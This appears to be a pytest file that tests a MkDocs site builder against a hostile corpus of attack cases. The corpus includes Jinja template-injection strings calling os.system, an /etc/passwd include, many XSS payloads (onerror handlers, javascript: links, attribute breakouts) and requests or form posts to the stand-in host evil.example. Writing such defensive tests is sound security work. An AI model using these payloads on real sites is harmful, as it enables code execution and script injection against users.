"""A hostile corpus: content written the way an attacker would write it, each case built as a tiny real site.

Every case must end one of two ways: the build stops with a clear `path:line:` message naming the
attacked file (no traceback, nothing published), or the site builds and the attack is inert, which a
real browser then checks (no script ran, no dialog opened, no request left the machine). Payloads that
would run Python at build time try to create a marker file; it must never appear.

The cases are written against what browsers and the builder do, not against our scanners: several
are exactly the tricks that fooled the earlier line-based scanner.
"""

from __future__ import annotations

import logging
import json
import os
import re
import shutil
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
MARKER = Path(os.environ.get("TMPDIR", "/tmp")) / f"t2-hostile-marker-{os.getpid()}"
RUN = f"__import__('os').system('touch {MARKER}')"
SSTI = f"{{{{ cycler.__init__.__globals__.os.system('touch {MARKER}') }}}}"
JS = "top.__pwned=1"

CHAPTER = """---
id: good
title: A good chapter
audience: [practitioner]
summary: A chapter with every required part.
reviewed: 2026-11-01
render_macros: true
---

## In brief { #in-brief }

Short. {{ term("ripeness") }} {{ cite("zartman-2000") }}

BODY

## Further reading { #further-reading }

- Nothing else.
"""

CHECKLIST = """---
id: tiny-list
title: A tiny list
step: assess
audience: [practitioner]
used-by: The team
use-when: Before anything
summary: One list to attack.
version: "1.0"
reviewed: 2026-11-01
changes: "1.0: first"
---

INTRO

## First things { #first }

SECTION_INTRO

- [ ] `tl-one` ITEM
  NOTE [Why](../docs/handbook/good.md#in-brief)
"""

GLOSSARY = "- id: ripeness\n  term: TERM\n  definition: DEFINITION\n"

MKDOCS = """site_name: Tiny
site_description: A tiny site to attack.
strict: true
use_directory_urls: false
exclude_docs: |
  _data/
theme:
  name: material
  custom_dir: macros/theme
  font: false
plugins:
  - search
  - offline
  - macros:
      module_name: macros
      render_by_default: false
      on_error_fail: true
      on_undefined: strict
markdown_extensions:
  - toc:
      permalink: true
  - attr_list
  - md_in_html
  - admonition
  - tables
  - def_list
  - footnotes
  - pymdownx.details
  - pymdownx.superfences
extra:
  polyfills:
    - assets/vendor/iframe-worker/shim.js
extra_css:
  - assets/css/site.css
extra_javascript:
  - assets/js/checklist.js
nav:
  - Home: index.md
  - Handbook:
      - handbook/good.md
  - Checklists:
      - checklists/index.md
  - Glossary: glossary.md
  - References: references.md
"""


def base_files() -> dict[str, str]:
    references = (ROOT / "tests/fixtures/broken/docs/_data/references.yml").read_text().split("- key: lonely-2001")[0]
    return {
        "mkdocs.yml": MKDOCS,
        "docs/index.md": "# Tiny\n\nA tiny site.\n",
        "docs/handbook/good.md": CHAPTER.replace("BODY", "Plain text."),
        "docs/glossary.md": "---\nrender_macros: true\n---\n\n# Glossary\n\n{{ glossary_list() }}\n",
        "docs/references.md": "---\nrender_macros: true\n---\n\n# References\n\n{{ reference_list() }}\n",
        "docs/checklists/index.md": "---\nrender_macros: true\n---\n\n# Checklists\n\n{{ checklist_index() }}\n",
        "docs/checklists/tiny-list.md": '---\nrender_macros: true\n---\n\n{{ checklist("tiny-list") }}\n',
        **checklist(),
        "docs/_data/glossary.yml": GLOSSARY.replace("TERM", "Ripeness").replace("DEFINITION", "When parties are ready."),
        "docs/_data/references.yml": references,
        "docs/_data/ui.yml": (ROOT / "docs/_data/ui.yml").read_text(encoding="utf-8"),
    }


def with_fields(text: str, fields: dict[str, str]) -> str:
    """The file with these front matter fields replaced, values written exactly as given."""
    for key, value in fields.items():
        text = re.sub(rf"\n{key}: [^\n]*", lambda m: f"\n{key}: {value}", text, count=1)
    return text


def chapter(body: str = "Plain text.", replace: tuple[str, str] = ("", ""), **front: str) -> dict[str, str]:
    return {"docs/handbook/good.md": with_fields(CHAPTER.replace("BODY", body), front).replace(*replace)}


def checklist(intro="Why it exists.", section_intro="", item="Do the thing.", note="Because.",
              replace: tuple[str, str] = ("", ""), **front) -> dict:
    text = (CHECKLIST.replace("SECTION_INTRO", section_intro).replace("INTRO", intro)
            .replace("ITEM", item).replace("NOTE", note))
    return {"checklists/tiny-list.md": with_fields(text, front).replace(*replace)}


def page(text: str, name: str = "docs/index.md") -> dict[str, str]:
    return {name: text}


def glossary(term="Ripeness", definition="When parties are ready.") -> dict[str, str]:
    return {"docs/_data/glossary.yml": GLOSSARY.replace("TERM", term).replace("DEFINITION", definition)}


CASE = """---
id: tiny-case
title: A tiny case
summary: One case to attack.
region: asia
countries: [Nowhere]
years: [2001, 2003]
conflict: A conflict
convenors: [Someone]
track: "II"
activities: [dialogue]
steps: [assess]
outcome: shaped-ideas
women: took-part
sources: [zartman-2000]
short: SHORT
events:
  - date: 2001
    track: II
    what: WHAT
    source: zartman-2000
  - {date: "2001-05", track: I, what: Second, source: zartman-2000}
  - {date: 2002, track: "1.5", what: Third, source: zartman-2000}
  - {date: 2002-06-01, track: other, what: Fourth, source: zartman-2000}
  - {date: 2003, track: II, what: Fifth, source: zartman-2000}
version: "1.0"
reviewed: 2026-11-01
changes: "1.0: first"
render_macros: true
---

""" + "".join(f"## {title} {{ #{anchor} }}\n\nText. {{{{ cite(\"zartman-2000\") }}}}\n\n" for anchor, title in (
    ("context", "Context"), ("who-took-part", "Who took part"), ("what-they-did", "What they did"),
    ("what-came-of-it", "What came of it"), ("disputed", "Disputed"), ("lessons", "Lessons"),
    ("sources", "Sources"))) + '{{ figure("tiny") }}\n'

FIGURE = """- id: tiny
  kind: KIND
  title: TITLE
  caption: CAPTION
  alt: A description of the drawing.
  items: [LABEL, Two, Three, Four]
  rows: [Top, Bottom]
  columns: [Left, Right]
  centre: Middle
  start: Here
  end: There
"""


def case_study(what="First", short="Tiny case", kind="sequence", title="Tiny", caption="A caption.",
               label="One") -> dict[str, str]:
    """A case page (with a timeline) and a figure on it, the library page with its chart, and their nav."""
    return {
        "docs/case-studies/tiny-case.md": CASE.replace("SHORT", short).replace("WHAT", what),
        "docs/case-studies/index.md": "---\nrender_macros: true\n---\n\n# Cases\n\n{{ case_chart() }}\n\n{{ case_table() }}\n",
        "docs/_data/figures.yml": FIGURE.replace("KIND", kind).replace("TITLE", title).replace("CAPTION", caption)
                                        .replace("LABEL", label),
        "mkdocs.yml": MKDOCS.replace("  - Glossary: glossary.md", "  - Case studies:\n      - case-studies/index.md\n"
                                                                   "  - Glossary: glossary.md"),
    }


IMG = f'<img src=x onerror="{JS}">'
QUOTE_BREAK = f'\'"x" onmouseover="{JS}" data-x="\''  # a YAML string that closes an attribute if unescaped
# (route class, name, files, the file a rejection must name)
CASES = [
    # --- build-time code execution: Jinja reaching mkdocs-macros or our print path -------------------
    ("ssti", "title with Jinja", chapter(title=f'"{SSTI}"'), "docs/handbook/good.md"),
    ("ssti", "summary with Jinja", chapter(summary=f'"{SSTI}"'), "docs/handbook/good.md"),
    ("ssti", "body expression", chapter(SSTI), "docs/handbook/good.md"),
    ("ssti", "lipsum globals", chapter(f"{{{{ lipsum.__globals__.os.system('touch {MARKER}') }}}}"), "docs/handbook/good.md"),
    ("ssti", "statement", chapter(f"{{% set x = {RUN} %}}"), "docs/handbook/good.md"),
    ("ssti", "macro with a call argument", chapter(f'{{{{ term({RUN}) }}}}'), "docs/handbook/good.md"),
    ("ssti", "macro with a filter", chapter('{{ term("ripeness"|attr("__class__")) }}'), "docs/handbook/good.md"),
    ("ssti", "macro with a variable", chapter("{{ term(config) }}"), "docs/handbook/good.md"),
    ("ssti", "include", chapter('{% include "/etc/passwd" %}'), "docs/handbook/good.md"),
    ("ssti", "config variable", chapter("{{ config }}"), "docs/handbook/good.md"),
    ("ssti", "whitespace-trimmed", chapter(f"{{{{- cycler.__init__.__globals__.os.system('touch {MARKER}') -}}}}"),
     "docs/handbook/good.md"),
    ("ssti", "unknown macro", chapter('{{ evil("x") }}'), "docs/handbook/good.md"),
    ("ssti", "page not opted in", page(f"# Home\n\n{SSTI}\n"), "docs/index.md"),
    ("ssti", "render_macros: 1", page(f"---\nrender_macros: 1\n---\n\n# Home\n\n{SSTI}\n"), "docs/index.md"),
    ("ssti", "render_macros: yes", page(f"---\nrender_macros: yes\n---\n\n# Home\n\n{SSTI}\n"), "docs/index.md"),
    ("ssti", "empty front matter first", page(f"---\n---\nrender_macros: true\n---\n\n{SSTI}\n"), "docs/index.md"),
    ("ssti", "MultiMarkdown metadata", page(f"render_macros: true\ntitle: x\n\n{SSTI}\n"), "docs/index.md"),
    ("ssti", "YAML escapes hide braces", chapter(title='"\\x7b\\x7b cycler.__init__ \\x7d\\x7d"'), "docs/handbook/good.md"),
    ("ssti", "escaped braces in summary", chapter(summary='"\\u007b\\u007b config \\u007d\\u007d"'), "docs/handbook/good.md"),
    ("ssti", "CR-only line endings", page(f"---\rrender_macros: true\r---\r\r# Home\r\r{SSTI}\r"), "docs/index.md"),
    ("ssti", "front matter ended by dots", page(f"---\nrender_macros: true\n...\n\n# Home\n\n{SSTI}\n"), "docs/index.md"),
    ("ssti", "macro name as a field", page(f"---\nrender_macros: true\nterm: x\n---\n\n# Home\n\n{SSTI}\n"),
     "docs/index.md"),
    ("ssti", "checklist item with Jinja", checklist(item=SSTI), None),
    ("ssti", "checklist intro with Jinja", checklist(intro=SSTI), None),
    ("ssti", "checklist note with Jinja", checklist(note=SSTI), None),
    ("ssti", "glossary definition with Jinja", glossary(definition=f'"{SSTI}"'), None),
    ("ssti", "glossary term with Jinja", glossary(term=f'"{SSTI}"'), "docs/_data/glossary.yml"),
    ("ssti", "in-brief slice of a raw block",
     chapter(f"{{% raw %}}\n## In brief {{ #in-brief }}\n\n{SSTI}\n{{% endraw %}}"), None),
    ("ssti", "raw block", chapter(f"{{% raw %}}{SSTI}{{% endraw %}}"), None),
    ("ssti", "line-ending comment trick", chapter(f"{{# x #}}{SSTI}"), "docs/handbook/good.md"),
    # --- script through raw HTML -----------------------------------------------------------------
    ("html", "script element", chapter(f"<script>{JS}</script>"), "docs/handbook/good.md"),
    ("html", "svg onload, no space", chapter(f"<svg/onload={JS}>"), "docs/handbook/good.md"),
    ("html", "img onerror", chapter(IMG), "docs/handbook/good.md"),
    ("html", "tag split over two lines", chapter(f'<img src=x\nonerror="{JS}">'), "docs/handbook/good.md"),
    ("html", "upper-case tag", chapter(f'<IMG SRC=x ONERROR="{JS}">'), "docs/handbook/good.md"),
    ("html", "javascript link", chapter(f'<a href="javascript:{JS}">x</a>'), "docs/handbook/good.md"),
    ("html", "entity-encoded javascript", chapter('<a href="jav&#x09;ascript:alert(1)">x</a>'), "docs/handbook/good.md"),
    ("html", "mixed-case scheme", chapter('<a href="JaVaScRiPt:alert(1)">x</a>'), "docs/handbook/good.md"),
    ("html", "iframe srcdoc", chapter(f'<iframe srcdoc="<script>{JS}</script>"></iframe>'), "docs/handbook/good.md"),
    ("html", "object", chapter('<object data="x.html"></object>'), "docs/handbook/good.md"),
    ("html", "embed", chapter('<embed src="x.swf">'), "docs/handbook/good.md"),
    ("html", "base", chapter('<base href="https://evil.example/">'), "docs/handbook/good.md"),
    ("html", "meta refresh", chapter('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
     "docs/handbook/good.md"),
    ("html", "form with action", chapter('<form action="https://evil.example/"><button>Go</button></form>'),
     "docs/handbook/good.md"),
    ("html", "details ontoggle", chapter(f'<details open ontoggle="{JS}"><summary>x</summary></details>'),
     "docs/handbook/good.md"),
    ("html", "input autofocus onfocus", chapter(f'<input autofocus onfocus="{JS}">'), "docs/handbook/good.md"),
    ("html", "math href", chapter('<math><mi href="javascript:alert(1)">x</mi></math>'), "docs/handbook/good.md"),
    ("html", "svg xlink", chapter('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
     "docs/handbook/good.md"),
    ("html", "svg animate", chapter('<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
                                    '<text>x</text></a></svg>'), "docs/handbook/good.md"),
    ("html", "template content", chapter(f"<template>{IMG}</template>"), "docs/handbook/good.md"),
    ("html", "comment trick", chapter(f"<!--><img src=x onerror=\"{JS}\">-->"), "docs/handbook/good.md"),
    ("html", "escaped backticks", chapter(f"\\`{IMG}\\`"), "docs/handbook/good.md"),
    ("html", "fake fence in a paragraph", chapter(f"text ```\n{IMG}\n```"), "docs/handbook/good.md"),
    ("html", "indented fence", chapter(f"- item\n\n    ```\n    x\n    ```\n\n{IMG}"), "docs/handbook/good.md"),
    ("html", "md_in_html div", chapter(f'<div markdown="1">\n\n{IMG}\n\n</div>'), "docs/handbook/good.md"),
    ("html", "style element", chapter("<style>body{background:url(https://evil.example/x)}</style>"),
     "docs/handbook/good.md"),
    ("html", "link stylesheet", chapter('<link rel="stylesheet" href="https://evil.example/x.css">'),
     "docs/handbook/good.md"),
    ("html", "script from the site", chapter('<script src="../assets/js/checklist.js"></script>'),
     "docs/handbook/good.md"),
    ("html", "json config hijack", chapter('<script id="__config" type="application/json">{"search":"x"}</script>'),
     "docs/handbook/good.md"),
    ("html", "closing the article", chapter(f"</article></div></div></main>{IMG}"), "docs/handbook/good.md"),
    ("html", "in a table cell", chapter(f"| a |\n|---|\n| {IMG} |"), "docs/handbook/good.md"),
    ("html", "in a footnote", chapter(f"x[^1]\n\n[^1]: {IMG}"), "docs/handbook/good.md"),
    ("html", "in an admonition", chapter(f'!!! note\n\n    {IMG}'), "docs/handbook/good.md"),
    ("html", "in a definition list", chapter(f"Term\n:   {IMG}"), "docs/handbook/good.md"),
    ("html", "data URL link", chapter("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
     "docs/handbook/good.md"),
    ("html", "vbscript link", chapter("[x](vbscript:msgbox)"), "docs/handbook/good.md"),
    # --- attr_list attributes ---------------------------------------------------------------------
    ("attr_list", "onclick on a link", chapter(f'[x](https://example.org){{ onclick="{JS}" }}'), "docs/handbook/good.md"),
    ("attr_list", "onfocus autofocus paragraph", chapter(f'Text\n{{ onfocus="{JS}" autofocus tabindex="0" }}'),
     "docs/handbook/good.md"),
    ("attr_list", "href override", chapter('[x](https://example.org){ href="javascript:alert(1)" }'),
     "docs/handbook/good.md"),
    ("attr_list", "heading handler", chapter(f'## Heading {{ #h onmouseover="{JS}" }}'), "docs/handbook/good.md"),
    ("attr_list", "image src override", chapter('![a](../assets/favicon.svg){ src="https://evil.example/x.png" }'),
     "docs/handbook/good.md"),
    ("attr_list", "style url", chapter('Text\n{ style="background:url(https://evil.example/x)" }'),
     "docs/handbook/good.md"),
    ("attr_list", "style url with CSS escape", chapter('Text\n{ style="background:u\\72l(https://evil.example/x)" }'),
     "docs/handbook/good.md"),
    ("attr_list", "srcset", chapter('![a](../assets/favicon.svg){ srcset="https://evil.example/x.png 2x" }'),
     "docs/handbook/good.md"),
    ("attr_list", "formaction", chapter('Text\n{ formaction="javascript:alert(1)" }'), "docs/handbook/good.md"),
    ("attr_list", "srcdoc", chapter('Text\n{ srcdoc="x" }'), "docs/handbook/good.md"),
    # --- YAML fields that reach HTML --------------------------------------------------------------
    ("yaml", "summary breaking out of meta", chapter(summary=f'"x\\"><script>{JS}</script>"'), "docs/handbook/good.md"),
    ("yaml", "title in every page's navigation", chapter(title=f'"{IMG}"'), "docs/handbook/good.md"),
    ("yaml", "title with a quote and handler", chapter(title="'x\" onmouseover=\"top.__pwned=1'"), None),
    ("yaml", "summary with a Markdown link", chapter(summary='"[x](javascript:alert(1))"'), "docs/handbook/good.md"),
    ("yaml", "page title", page(f'---\ntitle: "{IMG}"\n---\n\nHome.\n'), "docs/index.md"),
    ("html", "first heading, which becomes the page title", page(f"# Home {IMG}\n\nA tiny site.\n"), "docs/index.md"),
    ("html", "heading title with an entity-encoded tag", page("# Home &lt;img src=x onerror=top.__pwned=1&gt;\n\nText.\n"),
     None),
    ("yaml", "page summary", page(f'---\nsummary: "\\"><svg onload={JS}>"\n---\n\n# Home\n'), "docs/index.md"),
    ("yaml", "glossary definition", glossary(definition=f"'{IMG}'"), "docs/_data/glossary.yml"),
    ("yaml", "glossary definition link", glossary(definition="'[x](javascript:alert(1))'"), "docs/_data/glossary.yml"),
    ("yaml", "glossary term", glossary(term=f"'{IMG}'"), "docs/_data/glossary.yml"),
    ("yaml", "checklist title", checklist(title=f"'{IMG}'"), "checklists/tiny-list.md"),
    ("yaml", "checklist summary", checklist(summary=f'"\\"><svg onload={JS}>"'), "checklists/tiny-list.md"),
    ("yaml", "checklist use-when", checklist(**{"use-when": f"'{IMG}'"}), "checklists/tiny-list.md"),
    ("yaml", "checklist changes", checklist(changes=f"'{IMG}'"), "checklists/tiny-list.md"),
    ("yaml", "checklist intro", checklist(intro=IMG), "checklists/tiny-list.md"),
    ("yaml", "checklist section intro", checklist(section_intro=IMG), "checklists/tiny-list.md"),
    ("yaml", "checklist item text", checklist(item=IMG), None),
    ("yaml", "checklist note", checklist(note=IMG), "checklists/tiny-list.md"),
    ("yaml", "checklist note javascript link", checklist(note="[x](javascript:alert(1)) and"), "checklists/tiny-list.md"),
    ("yaml", "checklist section title",
     checklist(replace=("## First things { #first }", f"## First <svg onload={JS}> {{ #first }}")), None),
    # --- requests to other hosts -------------------------------------------------------------------
    ("remote", "Markdown image", chapter("![x](https://evil.example/x.png)"), "docs/handbook/good.md"),
    ("remote", "protocol-relative image", chapter("![x](//evil.example/x.png)"), "docs/handbook/good.md"),
    ("remote", "img tag", chapter('<img src="https://evil.example/x.png" alt="x">'), "docs/handbook/good.md"),
    ("remote", "video poster", chapter('<video poster="https://evil.example/x.png"></video>'), "docs/handbook/good.md"),
    ("remote", "audio source", chapter('<audio><source src="https://evil.example/x.mp3"></audio>'),
     "docs/handbook/good.md"),
    ("remote", "input image", chapter('<input type="image" src="https://evil.example/x.png">'), "docs/handbook/good.md"),
    ("remote", "iframe", chapter('<iframe src="https://evil.example/"></iframe>'), "docs/handbook/good.md"),
    ("remote", "backslash host", chapter('<img src="\\\\evil.example\\x.png" alt="x">'), "docs/handbook/good.md"),
    ("remote", "image outside the site", chapter('<img src="../../../../etc/passwd" alt="x">'), "docs/handbook/good.md"),
    ("remote", "span style", chapter('<span style="background-image:url(//evil.example/x)">x</span>'),
     "docs/handbook/good.md"),
    ("remote", "icon link in the body", chapter('<link rel="icon" href="https://evil.example/x.ico">'),
     "docs/handbook/good.md"),
    ("remote", "ping on a link", chapter('<a href="https://example.org" ping="https://evil.example/p">x</a>'),
     "docs/handbook/good.md"),
    ("remote", "button formaction", chapter('<button formaction="https://evil.example/">Go</button>'),
     "docs/handbook/good.md"),
    ("remote", "SVG image", chapter('<svg><image href="https://evil.example/x.png"/></svg>'), "docs/handbook/good.md"),
    ("remote", "SVG use", chapter('<svg><use xlink:href="https://evil.example/x.svg#a"/></svg>'),
     "docs/handbook/good.md"),
    ("remote", "CSS image-set", chapter('<span style="background:image-set(\'https://evil.example/x.png\' 1x)">x</span>'),
     "docs/handbook/good.md"),
    # --- figures and timelines: words from front matter and figures.yml drawn into SVG ----------------
    ("html", "event text with HTML", case_study(what=f"'{IMG}'"), "docs/case-studies/tiny-case.md"),
    ("ssti", "event text with Jinja", case_study(what=f"'{SSTI}'"), "docs/case-studies/tiny-case.md"),
    ("html", "short label closing the SVG", case_study(short="'</text><script>top.__pwned=1</script>'"),
     "docs/case-studies/tiny-case.md"),
    ("html", "event text breaking an attribute", case_study(what=QUOTE_BREAK), None),
    ("html", "figure label with HTML", case_study(label=f"'{IMG}'"), "docs/_data/figures.yml"),
    ("ssti", "figure caption with Jinja", case_study(caption=f"'{SSTI}'"), "docs/_data/figures.yml"),
    ("html", "figure title breaking an attribute", case_study(title=QUOTE_BREAK), None),
    ("html", "figure caption breaking an attribute", case_study(kind="matrix", caption=QUOTE_BREAK), None),
    ("html", "figure label breaking an attribute", case_study(kind="wheel", label=QUOTE_BREAK), None),
    ("yaml", "figure of an unknown kind", case_study(kind="'<script>'"), "docs/_data/figures.yml"),
    # --- files copied as they are -------------------------------------------------------------------
    ("static", "HTML file in docs", {"docs/evil.html": f"<html><body><script>{JS}</script></body></html>"},
     "docs/evil.html"),
    ("static", "SVG with script", {"docs/evil.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{JS}</script></svg>'},
     "docs/evil.svg"),
    ("static", "SVG with handler", {"docs/evil.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"/>'},
     "docs/evil.svg"),
    ("static", "SVG with entities", {"docs/evil.svg": '<!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'},
     "docs/evil.svg"),
    # --- crashes that used to print tracebacks -----------------------------------------------------
    ("crash", "checklist note ending in an autolink", checklist(note="See <https://example.org> and"), None),
    ("crash", "400-deep list", chapter("".join("    " * d + "- x\n" for d in range(400))), "docs/handbook/good.md"),
    ("crash", "required section inside a comment",
     chapter(replace=("## Further reading { #further-reading }", "<!--\n## Further reading { #further-reading }\n-->")),
     "docs/handbook/good.md"),
]


def make_site(tmp_path: Path, files: dict[str, str]) -> Path:
    root = tmp_path / "project"
    for name, text in {**base_files(), **files}.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text, encoding="utf-8", newline="")
    shutil.copytree(ROOT / "docs" / "assets", root / "docs" / "assets")
    (root / "macros").symlink_to(ROOT / "macros")
    return root


def build(root: Path, **settings) -> tuple[bool, str]:
    """Build with MkDocs in this process, as `mkdocs build --strict` does (`make serve`'s route, through
    the mkdocs-macros hooks); (built, everything it said).

    `settings` override mkdocs.yml as the command line would (`mkdocs serve` sets its own site_url).
    """
    return mkdocs_in_process(root / "mkdocs.yml", site_dir=str(root / "site"), **settings)


def mkdocs_in_process(config_file: Path, **settings) -> tuple[bool, str]:
    from mkdocs.commands.build import build as mkdocs_build
    from mkdocs.config import load_config
    from mkdocs.exceptions import MkDocsException
    records: list[str] = []

    class Keep(logging.Handler):
        def emit(self, record):
            records.append(record.getMessage())

    handler = Keep(logging.WARNING)
    logging.getLogger("mkdocs").addHandler(handler)
    cwd = os.getcwd()
    try:
        os.chdir(config_file.parent)
        mkdocs_build(load_config(str(config_file), **settings))
        return not records, "\n".join(records)
    except MkDocsException as error:  # PluginError, BuildError, Abort: the builder's own clean stops
        return False, "\n".join(records + [str(error)])
    finally:
        os.chdir(cwd)
        logging.getLogger("mkdocs").removeHandler(handler)


def build_published(root: Path) -> tuple[bool, str]:
    """`make site`'s route without the PDFs: validate, give the builder the finished pages (run in this
    process, for speed), our own step over its output, then the output policy over the whole site."""
    from macros.checks.published_output import check_site
    from macros.checks.validated import editions
    from macros.outputs.open_data import data_files
    from macros.site_build import build_languages
    books, problems = editions(root)
    if problems:
        return False, "\n".join(map(str, problems))
    handbook = books["en"]
    built, said, _ = build_languages(books, {}, data_files(handbook), root / "site", run=mkdocs_in_process)
    if not built:
        return False, said
    findings = check_site(root / "site", handbook, translations=books)
    return not findings, "\n".join(findings)


ROUTES = {"make site": build_published, "make serve": build}


@pytest.fixture(autouse=True)
def no_marker():
    """Each case starts without the marker, so each one answers for itself."""
    MARKER.unlink(missing_ok=True)
    yield
    MARKER.unlink(missing_ok=True)


def test_the_corpus_covers_every_route_class():
    classes = {case[0] for case in CASES}
    assert classes == {"ssti", "html", "attr_list", "yaml", "remote", "static", "crash"}
    assert len(CASES) >= 100, len(CASES)
    assert len({case[1] for case in CASES}) == len(CASES)


@pytest.mark.parametrize("way", list(ROUTES))
def test_the_tiny_site_builds_clean(tmp_path, way):
    built, said = ROUTES[way](make_site(tmp_path, {}))
    assert built, said


@pytest.mark.parametrize("way", list(ROUTES))
def test_the_tiny_case_site_draws_its_timeline_chart_and_figure(tmp_path, way):
    """So the figure and timeline attacks above reach the drawing code, not an error page."""
    root = make_site(tmp_path, case_study())
    built, said = ROUTES[way](root)
    assert built, said
    page = (root / "site" / "case-studies" / "tiny-case.html").read_text(encoding="utf-8")
    assert 'id="timeline-tiny-case"' in page and 'id="figure-tiny"' in page
    assert 'id="figure-case-chart"' in (root / "site" / "case-studies" / "index.html").read_text(encoding="utf-8")


# --- translations: only `make site` publishes them (/fr/...); each is held to its English file first --------

BLOCK = "translation:\n  method: machine-assisted\n  native-review: none\n"


def translated(files: dict[str, str]) -> dict[str, str]:
    """Files as French translations of the tiny site's English ones (same structure, a translation block)."""
    out = {}
    for name, text in files.items():
        target = name.replace("docs/", "docs/fr/", 1) if name.startswith("docs/") else name.replace("checklists/", "checklists/fr/", 1)
        out[target] = text.replace("\n---\n", "\n" + BLOCK + "---\n", 1) if text.startswith("---") else f"---\n{BLOCK}---\n\n{text}"
    return out


def words(**changes: str) -> dict[str, str]:
    """The site's words in French, some of them given."""
    return {"docs/fr/_data/ui.yml": f"{BLOCK}entries:\n" + "".join(f"  {k}: {json.dumps(v)}\n" for k, v in changes.items())}


def case_summary_translation(**fields: str) -> dict[str, str]:
    """The tiny case, and a French translation of its summary and facts only (front matter, no body)."""
    english = case_study()
    front = english["docs/case-studies/tiny-case.md"].split("\n---\n", 1)[0]
    for key, value in fields.items():
        front = re.sub(rf"^{key}: .*$", f"{key}: {value}", front, flags=re.M)
    return {**english, "docs/fr/case-studies/tiny-case.md": f"{front}\n{BLOCK}---\n"}


TRANSLATION_CASES = [
    ("ssti", "translated chapter with Jinja", translated(chapter(f"Texte. {SSTI}")), "docs/fr/handbook/good.md"),
    ("html", "translated chapter with img onerror", translated(chapter(IMG)), "docs/fr/handbook/good.md"),
    ("attr_list", "translated chapter with a handler attribute", translated(chapter('Texte\n{ onclick="top.__pwned=1" }')),
     "docs/fr/handbook/good.md"),
    ("yaml", "translated chapter title", translated(chapter(title=f"'{IMG}'")), "docs/fr/handbook/good.md"),
    ("yaml", "translated checklist item", translated(checklist(item=IMG)), None),
    ("yaml", "case summary translation with HTML in its facts",
     case_summary_translation(title=f"'{IMG}'", summary=f"'{IMG}'", conflict=f"'{IMG}'", countries=f"['{IMG}']"),
     "docs/fr/case-studies/tiny-case.md"),
    ("yaml", "translated glossary term", {"docs/fr/_data/glossary.yml": f"{BLOCK}entries:\n- id: ripeness\n"
                                          f"  term: '{IMG}'\n  definition: '{IMG}'\n"}, "docs/fr/_data/glossary.yml"),
    ("yaml", "site words with HTML", words(languages=IMG, untranslated=f'"><svg onload={JS}>', site_name=IMG),
     "docs/fr/_data/ui.yml"),
    ("yaml", "site words with Jinja", words(read_english=SSTI), "docs/fr/_data/ui.yml"),
    ("yaml", "site words the PDFs, Word copies and scripts say, with HTML",
     words(ticks_other_checklist=f'"><svg onload={JS}>', table_scroll=IMG, toolkit_for=IMG, page_number=IMG,
           this_checklist=IMG, owner=f"<script>{JS}</script>"), "docs/fr/_data/ui.yml"),
    ("crash", "translated page without its translation block", {"docs/fr/handbook/good.md": CHAPTER.replace("BODY", "Texte.")},
     "docs/fr/handbook/good.md"),
    ("crash", "site words not a mapping", {"docs/fr/_data/ui.yml": f"{BLOCK}entries: [1, 2]\n"}, "docs/fr/_data/ui.yml"),
]


@pytest.mark.parametrize("route, name, files, culprit", TRANSLATION_CASES, ids=[f"{c[0]}: {c[1]}" for c in TRANSLATION_CASES])
def test_attack_through_a_translation_is_rejected_or_inert(tmp_path, browser, route, name, files, culprit):
    root = make_site(tmp_path, files)
    built, said = build_published(root)
    assert not MARKER.exists(), f"{name}: Python ran during the build"
    assert "Traceback" not in said, said
    if not built:
        assert any(line.startswith(f"{culprit}:") and line.split(":")[1].isdigit() for line in said.splitlines()), said
        return
    assert culprit is None, f"{name}: built, but {culprit} should have been rejected:\n{said}"
    assert (root / "site" / "fr" / "index.html").exists()
    assert_inert(browser, root / "site")


def test_the_preview_passes_the_policy_and_judges_like_the_build(tmp_path):
    """`make serve` publishes at http://127.0.0.1:8000/: its own address is the site, not another host."""
    built, said = build(make_site(tmp_path, {}), site_url="http://127.0.0.1:8000/")
    assert built, said
    built, said = build(make_site(tmp_path / "attacked", chapter(IMG)), site_url="http://127.0.0.1:8000/")
    assert not built and "docs/handbook/good.md:" in said, said


@pytest.mark.parametrize("way", list(ROUTES))
@pytest.mark.parametrize("route, name, files, culprit", CASES, ids=[f"{c[0]}: {c[1]}" for c in CASES])
def test_attack_is_rejected_or_inert(tmp_path, browser, route, name, files, culprit, way):
    root = make_site(tmp_path, files)
    built, said = ROUTES[way](root)
    assert not MARKER.exists(), f"{name}: Python ran during the build"
    assert "Traceback" not in said, said
    if not built:
        lines = [line for line in said.splitlines() if ": " in line]
        expected = culprit or next(iter(files))
        assert any(line.startswith(f"{expected}:") and line.split(":")[1].isdigit() for line in lines), said
        assert not any((root / "site").rglob("*.html")) or all(
            "__pwned" not in p.read_text(errors="replace") for p in (root / "site").rglob("*.html")), said
        return
    assert culprit is None, f"{name}: built, but {culprit} should have been rejected:\n{said}"
    assert_inert(browser, root / "site")


def assert_inert(browser, site: Path) -> None:
    """Open every page from disk: no script of the attacker's runs, no dialog, no request off the machine."""
    context = browser.new_context()
    tab = context.new_page()
    requests, dialogs = [], []
    tab.on("request", lambda r: requests.append(r.url))
    tab.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        for path in sorted(site.rglob("*.html")):
            tab.goto(path.as_uri())
            tab.wait_for_timeout(50)
            assert tab.evaluate("() => window.__pwned === undefined"), f"script ran on {path}"
    finally:
        context.close()
    assert dialogs == []
    assert all(url.startswith(("file://", "data:", "blob:", "about:")) for url in requests), requests


# --- the print path: scripts/build.py, PDFs included ---------------------------------------------------

# The toolkit prints a chapter's "In brief". It was once cut out of the source and rendered on its own
# as a template: a {% raw %} block around it let the guard read the whole page as text, while the cut
# slice, without its raw tags, ran as Jinja.
RAW_BRIEF = CHAPTER.replace("render_macros: true", "step: assess\nrender_macros: true").replace(
    "## In brief { #in-brief }\n\nShort. {{ term(\"ripeness\") }} {{ cite(\"zartman-2000\") }}\n\nBODY",
    f"{{% raw %}}\n## In brief {{ #in-brief }}\n\nShort. {SSTI}\n\n"
    "## Who this chapter is for { #who-this-chapter-is-for }\n\nUs.\n{% endraw %}\n"
